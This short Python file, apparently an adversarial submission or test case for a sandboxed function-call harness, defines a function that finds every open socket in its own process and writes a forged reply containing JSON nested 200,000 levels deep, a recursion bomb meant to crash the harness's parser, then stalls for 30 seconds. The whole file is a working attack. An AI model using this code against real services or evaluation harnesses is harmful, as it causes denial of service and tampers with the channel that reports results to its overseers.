# Attacks the protocol: a reply header nested 200,000 levels deep (a recursion bomb for a
# JSON parser), sent as the answer to a call.
import os
import socket
import stat
import struct


def f(x, hint):
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                head = b'{"ok": true, "value": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
                socket.socket(fileno=os.dup(fd)).sendall(struct.pack("!I", len(head)) + head)
        except OSError:
            pass
    import time
    time.sleep(30)
